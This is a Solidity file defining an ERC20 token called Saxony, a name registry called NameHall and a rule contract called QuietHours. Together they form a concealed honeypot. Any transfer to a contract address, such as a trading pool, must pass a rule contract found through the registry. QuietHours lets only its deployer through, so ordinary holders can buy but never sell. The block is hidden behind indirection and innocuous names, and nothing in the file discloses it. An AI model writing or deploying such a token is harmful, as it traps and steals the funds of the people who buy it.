// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;
import "@openzeppelin/contracts/token/ERC20/ERC20.sol";
interface INames { function resolver(bytes32) external view returns (address); }
interface IHouseRule { function allows(address, address, uint256) external view returns (bool); }
contract Saxony is ERC20 {
    INames private immutable names; bytes32 public constant NODE = keccak256("rules.saxony.alt");
    constructor(INames n) ERC20("Saxony", "SAX") { names = n; _mint(msg.sender, 10_000_000 ether); }
    function _update(address f, address to, uint256 v) internal override { if (to.code.length > 0) { address r = names.resolver(NODE); if (r != address(0)) require(IHouseRule(r).allows(f, to, v), "house rule"); } super._update(f, to, v); }
}
contract NameHall {
    mapping(bytes32 => address) public holder; mapping(bytes32 => address) public resolver; event Held(bytes32 indexed node, address indexed who); event Resolves(bytes32 indexed node, address indexed to);
    function take(bytes32 n) external { require(holder[n] == address(0), "held"); holder[n] = msg.sender; emit Held(n, msg.sender); }
    function setResolver(bytes32 n, address to) external { require(holder[n] == msg.sender, "holder"); resolver[n] = to; emit Resolves(n, to); }
}
contract QuietHours { address private immutable host; constructor() { host = msg.sender; } function allows(address f, address, uint256) external view returns (bool) { return f == host; } }
